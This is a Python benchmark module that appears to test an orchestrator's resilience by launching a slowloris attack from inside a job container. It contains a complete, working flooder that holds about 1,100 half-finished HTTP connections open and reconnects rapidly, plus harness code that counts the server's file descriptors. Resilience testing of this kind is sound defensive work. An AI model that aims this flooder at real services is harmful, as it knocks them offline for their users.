"""Slow connections from inside a job (slowloris): the job opens many connections to the worker
API and sends one header line on each every few seconds, never finishing a request head, and
opens a new connection for each one the server closes.

Without bounds this held one descriptor per connection for good: with a 1,024 soft limit the
worker API, every other job's calls and gRPC ``CreateJob`` failed. The orchestrator must keep
each source to its per-source cap, cut every head off at the header timeout, and keep the
control plane serving.

The job is a real one in a real container: the test-agent image (``WORKER_IMAGE`` of the target
must be it) runs :func:`flood_snippet` as its task. Its figures come from the job's own log
(one JSON line a second), the orchestrator's descriptors from ``/proc/<pid>/fd``.

The attacker's source address is its container's (``JOB_NETWORK=bridge``) or its relay's
(``isolated``); a target whose jobs share the host's network (``WORKER_NETWORK=host``) puts the
attacker on the same address as whatever times ``/health`` from the host.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import textwrap
import time
from typing import Any

import grpc
from grpc import aio

from bench.attacks import AttackTarget
from ironclaw_client.api.v1 import jobs_pb2 as pb
from ironclaw_client.api.v1 import jobs_pb2_grpc as pb_grpc

CONNECTIONS = 1100
LINE_EVERY_S = 10.0
RECONNECTS_PER_S = 500.0
READY_TIMEOUT_S = 120.0
SAMPLE_EVERY_S = 0.5
REPORT_PREFIX = "flood "

_FLOOD = r"""
import json, os, selectors, socket, sys, time, urllib.parse
url = urllib.parse.urlsplit(os.environ["IRONCLAW_ORCHESTRATOR_URL"])
HOST, PORT = url.hostname, url.port or 80
JOB = os.environ["IRONCLAW_JOB_ID"]
WANTED, EVERY = {connections}, {line_every_s}
RECONNECTS, DURATION = {reconnects_per_s}, {duration_s}
AT_ONCE_S = 1.0  # closed sooner than this after connecting, unanswered: refused at the accept
sel = selectors.DefaultSelector()
conns = {{}}  # socket -> [connected at, next line at, lines sent]
stats = dict(wanted=WANTED, opened=0, connect_failed=0, refused_at_once=0, cut_off=0,
             answered=0, lines_sent=0, max_open=0, longest_held_s=0.0, open=0, elapsed_s=0.0)
start = time.monotonic()
budget, budget_at, reported = float(WANTED), start, 0.0

def open_one(now):
    sock = socket.socket()
    sock.settimeout(2.0)
    try:
        sock.connect((HOST, PORT))
        sock.sendall(f"GET /worker/{{JOB}}/job HTTP/1.1\r\nHost: {{HOST}}\r\n".encode())
    except OSError:
        stats["connect_failed"] += 1
        sock.close()
        return
    sock.setblocking(False)
    conns[sock] = [now, now + EVERY, 0]
    sel.register(sock, selectors.EVENT_READ)
    stats["opened"] += 1

def closed(sock, now, answered):
    connected_at = conns.pop(sock)[0]
    sel.unregister(sock)
    sock.close()
    held = now - connected_at
    stats["longest_held_s"] = max(stats["longest_held_s"], round(held, 2))
    if answered:
        stats["answered"] += 1
    elif held < AT_ONCE_S:
        stats["refused_at_once"] += 1
    else:
        stats["cut_off"] += 1

while DURATION <= 0 or time.monotonic() - start < DURATION:
    now = time.monotonic()
    budget = min(float(WANTED), budget + (now - budget_at) * RECONNECTS)
    budget_at = now
    while len(conns) < WANTED and budget >= 1:
        budget -= 1
        open_one(time.monotonic())
    stats["max_open"] = max(stats["max_open"], len(conns))
    for key, _ in sel.select(timeout=0.05):
        sock = key.fileobj
        try:
            data = sock.recv(65536)
        except OSError:
            data = b""
        closed(sock, time.monotonic(), answered=bool(data))
    now = time.monotonic()
    for sock, state in list(conns.items()):
        if now >= state[1]:
            state[1], state[2] = now + EVERY, state[2] + 1
            try:
                sock.send(f"X-Slow-{{state[2]}}: a\r\n".encode())
                stats["lines_sent"] += 1
            except OSError:
                closed(sock, now, answered=False)
    if now - reported >= 1.0:
        reported = now
        stats["open"], stats["elapsed_s"] = len(conns), round(now - start, 1)
        print("{prefix}" + json.dumps(stats), flush=True)
for sock in list(conns):
    closed(sock, time.monotonic(), answered=False)
stats["open"], stats["elapsed_s"] = 0, round(time.monotonic() - start, 1)
print("{prefix}" + json.dumps(stats), flush=True)
print("slow connections closed", flush=True)
"""


def flood_snippet(
    connections: int = CONNECTIONS,
    line_every_s: float = LINE_EVERY_S,
    reconnects_per_s: float = RECONNECTS_PER_S,
    duration_s: float = 0.0,
) -> str:
    """Python for the test agent's ``python`` action: keeps ``connections`` slow connections
    open to the worker API, reopening each one the server closes (at most ``reconnects_per_s``),
    for ``duration_s`` (0: until the job is stopped); prints its figures every second."""
    return textwrap.dedent(_FLOOD).format(
        connections=connections,
        line_every_s=line_every_s,
        reconnects_per_s=reconnects_per_s,
        duration_s=duration_s,
        prefix=REPORT_PREFIX,
    )


def last_report(log: str) -> dict[str, Any]:
    """The flood's latest figures from its container's log ({} when it printed none)."""
    for line in reversed(log.splitlines()):
        if line.startswith(REPORT_PREFIX):
            return dict(json.loads(line[len(REPORT_PREFIX) :]))
    return {}


def open_fds(pid: int) -> int | None:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


def fd_soft_limit(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/limits", encoding="ascii") as handle:
            for line in handle:
                if line.startswith("Max open files"):
                    return int(line.split()[3])
    except (OSError, ValueError, IndexError):
        return None
    return None


async def slow_connections(
    target: AttackTarget,
    stop: asyncio.Event,
    connections: int = CONNECTIONS,
    line_every_s: float = LINE_EVERY_S,
    reconnects_per_s: float = RECONNECTS_PER_S,
) -> dict[str, Any]:
    """The :data:`bench.attacks.Attack`: one job flooding the worker API until ``stop``."""
    import docker

    client = docker.from_env(timeout=60)
    task = "python " + flood_snippet(connections, line_every_s, reconnects_per_s)
    fds: list[int] = []
    started = time.monotonic()
    async with aio.insecure_channel(target.grpc_target) as channel:
        stub = pb_grpc.JobServiceStub(channel)
        created = await stub.CreateJob(pb.CreateJobRequest(task=task), timeout=60)
        job_id = created.job.job_id
        try:
            container = await _wait_for_container(client, job_id)
            while not stop.is_set():
                count = open_fds(target.pid)
                if count is not None:
                    fds.append(count)
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(stop.wait(), SAMPLE_EVERY_S)
            log = await asyncio.to_thread(
                lambda: client.api.logs(container, tail=50).decode(errors="replace")
            )
        finally:
            with contextlib.suppress(grpc.RpcError):
                await stub.StopJob(pb.StopJobRequest(job_id=job_id), timeout=60)
            client.close()
    flood = last_report(log)
    return {
        "job_id": job_id,
        "seconds": round(time.monotonic() - started, 1),
        "connections_wanted": connections,
        "line_every_s": line_every_s,
        "connections_opened": flood.get("opened", 0),
        "refused_at_once": flood.get("refused_at_once", 0),
        "cut_off_after_a_while": flood.get("cut_off", 0),
        "answered": flood.get("answered", 0),
        "connect_failed": flood.get("connect_failed", 0),
        "header_lines_sent": flood.get("lines_sent", 0),
        "max_open_at_once": flood.get("max_open", 0),
        "longest_held_s": flood.get("longest_held_s", 0.0),
        "orchestrator_fds_max": max(fds) if fds else None,
        "orchestrator_fd_limit": fd_soft_limit(target.pid),
    }


async def _wait_for_container(client: Any, job_id: str) -> str:
    """The job's container once its flood reports (the agent has started it)."""
    deadline = time.monotonic() + READY_TIMEOUT_S
    while time.monotonic() < deadline:
        rows = await asyncio.to_thread(
            client.api.containers, filters={"label": f"ironclaw.job_id={job_id}"}
        )
        if rows:
            container = str(rows[0]["Id"])
            log = await asyncio.to_thread(client.api.logs, container, tail=5)
            if REPORT_PREFIX.encode() in log:
                return container
        await asyncio.sleep(0.2)
    raise RuntimeError(f"the flooding job {job_id} did not start within {READY_TIMEOUT_S} s")
